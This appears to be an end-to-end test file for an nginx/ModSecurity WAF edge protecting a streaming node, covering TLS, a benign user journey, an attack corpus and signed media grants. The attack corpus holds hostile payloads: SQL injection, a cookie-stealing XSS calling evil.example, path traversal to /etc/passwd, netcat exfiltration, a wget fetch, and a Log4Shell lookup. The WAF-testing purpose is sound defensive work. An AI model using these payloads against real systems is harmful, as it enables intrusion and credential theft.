/**
 * The WAF edge (deploy/edge: nginx + ModSecurity v3 + OWASP CRS at
 * paranoia level 2) in front of an embedded Arena node, as a user and as an
 * attacker meet it: real nginx on free ports with a self-signed certificate
 * made here, the node trusting the edge alone (TRUSTED_PROXIES=127.0.0.1).
 *
 * - TLS, HTTP/2, the real client address, the edge's request id, https seen by the node;
 * - the whole user journey through the edge with no WAF rule matching at all;
 * - an attack corpus answered 403 by the edge without reaching the node;
 * - signed media checked by the edge with the nodes' HMAC (deploy/edge/media-grant.js): bad grants
 *   refused there, good segments served and then kept by the edge.
 */
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import WebSocket from "ws";
import { ApiClient, ok, type ApiResponse, type ErrorBody } from "../../helpers/api-client";
import { freePort, startNode, type ArenaNode } from "../../helpers/cluster";
import { startEdge, type Edge } from "../../helpers/edge";
import { E2E_PASSWORD } from "../../helpers/e2e-cluster";
import { signMediaGrant } from "../../../lib/media/signed-url";
import { createTempDir, waitFor, type TempDir } from "../../helpers/infra";
import { makeClip } from "../../integration/media/videos/helpers/clip";

const run = promisify(execFile);

/** Creations answer 201 (some older routes 200): either is success here, the WAF is what is under test. */
function created<T>(res: ApiResponse<T | ErrorBody>): T {
  if (res.status !== 201 && res.status !== 200)
    throw new Error(`Expected 200/201, got ${res.status}: ${JSON.stringify(res.body)}`);
  return res.body as T;
}

interface LogLine {
  requestId?: string;
  clientIp?: string;
  message?: string;
}

describe("WAF edge (nginx + ModSecurity + CRS PL2) in front of an embedded node", () => {
  let edge: Edge;
  let node: ArenaNode;
  let dataDir: TempDir;
  let metricsPort: number;
  let api: ApiClient;

  /** Sum of every REST request the node's gateway has answered. */
  const gatewayRequests = async (): Promise<number> => {
    const text = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
    return [...text.matchAll(/^arena_http_requests_total\{[^}]*\} (\d+)$/gm)].reduce((n, m) => n + Number(m[1]), 0);
  };

  beforeAll(async () => {
    dataDir = createTempDir("arena-edge-node-");
    const [apiPort, realtimePort, rtmpPort] = [await freePort(), await freePort(), await freePort()];
    metricsPort = await freePort();
    edge = await startEdge({ apiUpstream: `127.0.0.1:${apiPort}`, realtimeUpstream: `127.0.0.1:${realtimePort}` });
    node = startNode(`edge-${apiPort}`, {
      DATA_DIR: dataDir.path,
      API_HOST: "127.0.0.1",
      API_PORT: String(apiPort),
      REALTIME_HOST: "127.0.0.1",
      REALTIME_PORT: String(realtimePort),
      RTMP_PORT: String(rtmpPort),
      METRICS_PORT: String(metricsPort),
      PUBLIC_URL: edge.origin,
      // The edge checks the nodes' media grants itself: one key for both.
      MEDIA_URL_SECRET: edge.mediaUrlSecret,
      CORS_ORIGINS: edge.origin,
      TRUSTED_PROXIES: "127.0.0.1",
      RATE_LIMIT_PER_IP: "100000",
      RATE_LIMIT_PER_USER: "100000",
      LOG_FORMAT: "json",
      // Per-request lines (moleculer-web's "=> GET ...") show which client address the node saw.
      LOG_LEVEL: "debug",
    });
    api = new ApiClient(edge.origin, undefined, edge.fetch);
    await waitFor(async () => (await edge.request("GET", "/health/ready")).status === 200, {
      timeoutMs: 120000,
      intervalMs: 250,
      what: "the node ready through the edge",
    }).catch((err: Error) => {
      throw new Error(`${err.message}\n${node.output().slice(-3000)}\n${edge.output()}`);
    });
  });

  afterAll(async () => {
    await node?.kill("SIGTERM");
    await edge?.stop();
    dataDir?.remove();
  });

  it("terminates TLS with HTTP/2 and hands the node the real client address, its own request id and https", async () => {
    expect(await edge.http2Get("/api/v1/status")).toEqual({ status: 200, alpn: "h2" });
    const res = await edge.request("GET", "/api/v1/status", {
      headers: { "x-forwarded-for": "203.0.113.7", "x-request-id": "chosen-by-the-client-1" },
    });
    expect(res.status).toBe(200);
    const requestId = res.headers["x-request-id"] as string;
    // nginx's $request_id replaced the client's: the access log and the node's logs share it.
    expect(requestId).toMatch(/^[0-9a-f]{32}$/);
    // HSTS is sent only when the node trusts that the client came over TLS (X-Forwarded-Proto from the edge).
    expect(res.headers["strict-transport-security"]).toMatch(/max-age=\d+/);
    const accessLine = await waitFor(() => edge.stdoutLines().find((l) => l.requestId === requestId), {
      what: "the edge's access log line",
    });
    expect(accessLine).toMatchObject({ status: 200, http: "HTTP/1.1", clientIp: "127.0.0.1" });
    const lines = await waitFor(
      () => {
        const found = node
          .output()
          .split("\n")
          .filter((l) => l.includes(requestId))
          .map((l) => JSON.parse(l) as LogLine);
        return found.length > 0 ? found : undefined;
      },
      { timeoutMs: 5000, what: "the node's log lines of the request" },
    );
    expect(new Set(lines.map((l) => l.clientIp))).toEqual(new Set(["127.0.0.1"]));
    expect(node.output()).not.toContain("203.0.113.7");
  });

  it("carries the whole user journey with no WAF rule matching", async () => {
    const work = createTempDir("arena-edge-journey-");
    const hitsBefore = edge.wafHits().length;
    try {
      const suffix = randomBytes(3).toString("hex");
      const register = async (name: string): Promise<{ api: ApiClient; id: string; token: string }> => {
        const username = `${name}_${suffix}`;
        created(await api.auth.register({ email: `${username}@example.test`, username, password: E2E_PASSWORD }));
        const login = ok(await api.auth.login({ login: username, password: E2E_PASSWORD }));
        return { api: api.as(login.accessToken), id: login.user.id, token: login.accessToken };
      };
      const creator = await register("zoe");
      const viewer = await register("viewer");

      // Profile text with accents, emoji and punctuation.
      ok(
        await creator.api.request("PATCH", "/me", {
          displayName: "Zoë « Speedrun » Ångström 🎮",
          bio: "Any% runs, 100% fun — ¡vamos! 日本語もOK. Stream at 20:00 (UTC+1) & weekends.",
        }),
      );
      // The browser's cookie session: login, then a refresh carried by the HttpOnly cookie.
      const web = await edge.request("POST", "/api/v1/auth/web/login", {
        headers: { "content-type": "application/json", "x-arena-web": "1", origin: edge.origin },
        body: JSON.stringify({ login: `viewer_${suffix}`, password: E2E_PASSWORD }),
      });
      expect(web.status).toBe(200);
      const cookies = ([] as string[]).concat(web.headers["set-cookie"] ?? []).map((c) => c.split(";")[0]);
      const refreshed = await edge.request("POST", "/api/v1/auth/web/refresh", {
        headers: { "x-arena-web": "1", origin: edge.origin, cookie: cookies.join("; ") },
      });
      expect(refreshed.status).toBe(200);

      const { channel } = created(
        await creator.api.channels.create({
          slug: `zoe-${suffix}`,
          title: "Zoë's runs: Ünïcødé, “quotes” & <3",
          category: "Speedruns",
          tags: ["any%", "glitchless"],
        }),
      );
      ok(await viewer.api.channels.follow(channel.id));

      // Upload: a real clip through the edge's streaming upload route, transcoded, played as signed HLS.
      const clip = readFileSync(makeClip(work.path));
      const video = created<{ id: string }>(
        await creator.api.request("POST", "/videos", {
          channelId: channel.id,
          title: "Ace clutch — 1v4 (ünïcødé) 🏆",
          description: 'Round 14: flank through B, "no scope" at 2:31. Don\'t try this at home!',
          category: "fps",
          tags: ["clutch"],
        }),
      );
      const uploaded = await edge.request("PUT", `/api/v1/videos/${video.id}/source`, {
        headers: { authorization: `Bearer ${creator.token}`, "content-type": "video/mp4" },
        body: clip,
      });
      if (uploaded.status !== 200 && uploaded.status !== 202)
        throw new Error(`upload: ${uploaded.status} ${uploaded.text()}\n${node.output().slice(-3000)}`);
      await waitFor(
        async () => {
          const v = ok<{ status: string; failureReason?: string }>(
            await creator.api.request("GET", `/videos/${video.id}`),
          );
          if (v.status === "failed") throw new Error(`transcoding failed: ${v.failureReason}`);
          return v.status === "ready";
        },
        { timeoutMs: 120000, intervalMs: 500, what: "the upload transcoded" },
      );
      const playback = ok<{ hlsUrl: string }>(await viewer.api.request("GET", `/videos/${video.id}/playback`));
      expect(playback.hlsUrl.startsWith(`${edge.origin}/media/`)).toBe(true);
      const playlist = await edge.request("GET", playback.hlsUrl.slice(edge.origin.length));
      expect(playlist.status).toBe(200);
      expect(playlist.text()).toContain("#EXTM3U");
      // A player: ffprobe follows the master, a variant and its segments, verifying the edge's certificate.
      const probe = await run("ffprobe", [
        "-v",
        "error",
        "-ca_file",
        edge.caFile,
        "-tls_verify",
        "1",
        "-show_entries",
        "stream=codec_type",
        "-of",
        "csv=p=0",
        playback.hlsUrl,
      ]);
      expect(probe.stdout).toContain("video");

      created(
        await viewer.api.request("POST", `/videos/${video.id}/comments`, {
          body: "GG! That's 100% the best run — «très bien» 👏 Can't wait for part 2 :)",
        }),
      );

      // Chat over WSS through the edge's /ws.
      const ws = new WebSocket(`wss://localhost:${edge.port}/ws`, ["arena.v1", `bearer.${viewer.token}`], {
        ca: edge.ca,
        // Browsers always send one; its absence is itself a CRS finding (920320).
        headers: { "user-agent": "Mozilla/5.0 (X11; Linux x86_64) arena-e2e" },
      });
      const frames: Array<Record<string, unknown>> = [];
      ws.on("message", (d) => {
        const parsed = JSON.parse(d.toString()) as Record<string, unknown> | Array<Record<string, unknown>>;
        frames.push(...(Array.isArray(parsed) ? parsed : [parsed]));
      });
      await new Promise<void>((resolve, reject) => {
        ws.once("open", () => resolve());
        ws.once("error", reject);
      });
      try {
        ws.send(JSON.stringify({ type: "join", room: channel.id, cid: "j1" }));
        await waitFor(() => frames.find((f) => f.type === "joined"), { what: "joined over WSS" });
        ws.send(JSON.stringify({ type: "send", room: channel.id, text: "héllo from the edge 👋 <3 ; 1=1", cid: "m1" }));
        await waitFor(() => frames.find((f) => f.type === "ack" && f.cid === "m1"), { what: "chat ack over WSS" });
      } finally {
        ws.close();
      }
      const history = ok<{ items: Array<{ text: string }> }>(
        await viewer.api.request("GET", `/channels/${channel.id}/chat/messages`),
      );
      expect(history.items.map((m) => m.text)).toContain("héllo from the edge 👋 <3 ; 1=1");

      // The channel's blog: a Markdown post with links, code and Unicode, published and commented.
      const post = created<{ id: string }>(
        await creator.api.request("POST", "/blog/posts", {
          blog: channel.id,
          title: "Route notes: any% in 12 minutes (ünïcødé edition)",
          summary: "How the B-skip works, and why it's not a glitch.",
          body: [
            "# The B-skip",
            "",
            "Jump **twice** at the ledge, then _crouch_. See [the wiki](https://speedrun.example/wiki/b-skip) and",
            "the [original video](https://video.example/watch?v=abc123&t=42s).",
            "",
            "```",
            "frame 1: jump",
            "frame 3: jump (again)",
            "```",
            "",
            "- Splits: 1:02 / 4:37 / 11:58",
            "- Best run: 12:03.4 — «personal best» 🎉",
            "",
            "> Don't forget: practice makes perfect. 100% of the time, 50% of the runs.",
          ].join("\n"),
          tags: ["guide", "any%"],
        }),
      );
      ok(await creator.api.request("POST", `/blog/posts/${post.id}/publish`, {}));
      expect(ok<{ title: string }>(await viewer.api.request("GET", `/blog/posts/${post.id}`)).title).toContain(
        "ünïcødé",
      );
      created(
        await viewer.api.request("POST", `/blog/posts/${post.id}/comments`, {
          body: "Thanks! Tried it 20 times & got it once 😅 — what's the input window? (frames 1-3?)",
        }),
      );

      expect(edge.wafHits().slice(hitsBefore)).toEqual([]);
    } catch (err) {
      // A false positive shows as a 403 somewhere above: name the rules that matched.
      await new Promise((resolve) => setTimeout(resolve, 500)); // the audit line is written after the answer
      const hits = JSON.stringify(edge.wafHits().slice(hitsBefore), null, 1);
      throw new Error(`${(err as Error).message}\nWAF hits: ${hits}\n${edge.output().slice(-2000)}`);
    } finally {
      work.remove();
    }
  });

  it("refuses an attack corpus with 403 at the edge, and none of it reaches the node", async () => {
    const q = encodeURIComponent;
    const json = { "content-type": "application/json" };
    const attacks: Array<{
      name: string;
      method: string;
      path: string;
      headers?: Record<string, string>;
      body?: string;
    }> = [
      { name: "SQLi in query", method: "GET", path: `/api/v1/channels?category=${q("fps' OR '1'='1' --")}` },
      {
        name: "SQLi UNION",
        method: "GET",
        path: `/api/v1/videos?q=${q("1 UNION SELECT username, password FROM users")}`,
      },
      {
        name: "SQLi in JSON login",
        method: "POST",
        path: "/api/v1/auth/login",
        headers: json,
        body: JSON.stringify({ login: "admin' OR 1=1 -- ", password: "whatever-123" }),
      },
      {
        name: "XSS in query",
        method: "GET",
        path: `/api/v1/channels?category=${q("<script>alert(document.cookie)</script>")}`,
      },
      {
        name: "XSS in JSON body",
        method: "POST",
        path: "/api/v1/channels",
        headers: json,
        body: JSON.stringify({ slug: "x", title: '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">' }),
      },
      { name: "path traversal (encoded)", method: "GET", path: "/media/vod/%2e%2e%2f%2e%2e%2fetc/passwd" },
      {
        name: "path traversal (double-encoded)",
        method: "GET",
        path: "/media/vod/..%252f..%252f..%252fetc%252fpasswd",
      },
      { name: "path traversal (backslashes)", method: "GET", path: "/media/vod/..%5c..%5c..%5cwindows%5cwin.ini" },
      {
        name: "path traversal in parameter",
        method: "GET",
        path: `/api/v1/videos?file=${q("../../../../etc/passwd")}`,
      },
      {
        name: "command injection",
        method: "POST",
        path: "/api/v1/channels",
        headers: json,
        body: JSON.stringify({ slug: "x", title: "x; cat /etc/passwd | nc evil.example 4444" }),
      },
      {
        name: "command injection in query",
        method: "GET",
        path: `/api/v1/status?host=${q("127.0.0.1;wget http://evil.example/x.sh")}`,
      },
      {
        name: "scanner user agent (sqlmap)",
        method: "GET",
        path: "/api/v1/status",
        headers: { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" },
      },
      {
        name: "scanner user agent (nikto)",
        method: "GET",
        path: "/api/v1/status",
        headers: { "user-agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)" },
      },
      { name: "oversized header", method: "GET", path: "/api/v1/status", headers: { "x-padding": "A".repeat(8000) } },
      {
        name: "Log4Shell lookup",
        method: "GET",
        path: "/api/v1/status",
        headers: { "x-api-version": "${jndi:ldap://evil.example/a}" },
      },
      { name: "SQLi in the WebSocket upgrade", method: "GET", path: `/ws?access_token=${q("' OR 1=1 --")}` },
    ];
    const before = await gatewayRequests();
    const refused: string[] = [];
    for (const attack of attacks) {
      const res = await edge.request(attack.method, attack.path, { headers: attack.headers, body: attack.body });
      if (res.status !== 403) refused.push(`${attack.name}: ${res.status} ${res.text().slice(0, 200)}`);
    }
    expect(refused).toEqual([]);
    // The edge answered each one itself: no upstream was contacted for any of them.
    const blocked = await waitFor(
      () => {
        const lines = edge.stdoutLines().filter((l) => l.status === 403);
        return lines.length >= attacks.length ? lines : undefined;
      },
      { what: "the access log lines of the attacks" },
    );
    for (const line of blocked.slice(-attacks.length)) expect(line.upstreamSeconds).toBe("");
    // And the node's gateway saw nothing of them.
    expect(await gatewayRequests()).toBe(before);
  });
  it("checks signed media at the edge with the nodes' HMAC: bad grants never reach the node, good segments are kept", async () => {
    const folder = "/media/vod/edge-grant-check/";
    mkdirSync(join(dataDir.path, "media", "vod", "edge-grant-check"), { recursive: true });
    const segment = randomBytes(64 * 1024);
    writeFileSync(join(dataDir.path, "media", "vod", "edge-grant-check", "seg0.ts"), segment);
    writeFileSync(join(dataDir.path, "media", "vod", "edge-grant-check", "index.m3u8"), "#EXTM3U\nseg0.ts\n");
    const nowS = Math.floor(Date.now() / 1000);
    const grant = (prefix: string, expiresAt: number, secret = edge.mediaUrlSecret) =>
      signMediaGrant({ prefix, expiresAt }, secret);
    const good = `${folder}seg0.ts?${grant(folder, nowS + 600)}`;
    const sig = new URLSearchParams(good.split("?")[1]).get("sig") as string;
    const tampered = good.replace(`sig=${sig}`, `sig=${sig.slice(0, -1)}${sig.endsWith("A") ? "B" : "A"}`);
    const refusals: Array<[string, string]> = [
      ["tampered signature", tampered],
      ["expired grant", `${folder}seg0.ts?${grant(folder, nowS - 60)}`],
      ["signed with another key", `${folder}seg0.ts?${grant(folder, nowS + 600, "not-the-nodes-secret")}`],
      ["another folder's grant", `${folder}seg0.ts?${grant("/media/vod/elsewhere/", nowS + 600)}`],
      ["a longer expiry than signed", good.replace(`exp=${nowS + 600}`, `exp=${nowS + 6000}`)],
      ["unsigned", `${folder}seg0.ts`],
      ["playlist with a tampered grant", tampered.replace("seg0.ts", "index.m3u8")],
    ];
    const before = await gatewayRequests();
    const answers: string[] = [];
    for (const [name, path] of refusals) {
      const res = await edge.request("GET", path);
      answers.push(`${name}: ${res.status} ${res.status === 403 ? res.json<ErrorBody>().error.code : res.text()}`);
    }
    expect(answers).toEqual(refusals.map(([name]) => `${name}: 403 FORBIDDEN`));
    const refusedLines = await waitFor(
      () => {
        const lines = edge.stdoutLines().filter((l) => String(l.path).startsWith(folder) && l.status === 403);
        return lines.length >= refusals.length ? lines : undefined;
      },
      { what: "the access log lines of the refused media URLs" },
    );
    for (const line of refusedLines) expect(line.upstreamSeconds).toBe("");
    expect(await gatewayRequests()).toBe(before);

    // A good grant: fetched from the node once, then served by the edge for any valid grant, ranges included.
    const first = await edge.request("GET", good);
    expect(first.status).toBe(200);
    expect(first.body.equals(segment)).toBe(true);
    expect(first.headers["x-edge-cache"]).toBe("MISS");
    const afterFirst = await waitFor(
      async () => {
        const count = await gatewayRequests();
        return count > before ? count : undefined;
      },
      { what: "the node counting the first segment request" },
    );
    const again = await edge.request("GET", `${folder}seg0.ts?${grant(folder, nowS + 900)}`);
    expect(again.status).toBe(200);
    expect(again.headers["x-edge-cache"]).toBe("HIT");
    expect(again.body.equals(segment)).toBe(true);
    const ranged = await edge.request("GET", good, { headers: { range: "bytes=100-199" } });
    expect(ranged.status).toBe(206);
    expect(ranged.headers["x-edge-cache"]).toBe("HIT");
    expect(ranged.body.equals(segment.subarray(100, 200))).toBe(true);
    // A cached copy does not open the door to a bad grant.
    expect((await edge.request("GET", tampered)).status).toBe(403);
    // Segments are outside the WAF (the grant decides them): a signed one is served whatever the user
    // agent says, where the WAF refuses that agent on any other path; and they are only ever read.
    const scanner = { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" };
    expect((await edge.request("GET", good, { headers: scanner })).status).toBe(200);
    expect((await edge.request("GET", "/api/v1/status", { headers: scanner })).status).toBe(403);
    expect(
      (await edge.request("POST", good, { headers: { "content-type": "application/json" }, body: "{}" })).status,
    ).toBe(403);
    expect(await gatewayRequests()).toBe(afterFirst);
    // Playlists are rewritten per grant by the node: checked at the edge, never kept there.
    const playlist = await edge.request("GET", `${folder}index.m3u8?${grant(folder, nowS + 600)}`);
    expect(playlist.status).toBe(200);
    expect(playlist.text()).toContain(`seg0.ts?${grant(folder, nowS + 600)}`);
    expect(playlist.headers["x-edge-cache"]).toBeUndefined();
  });
});
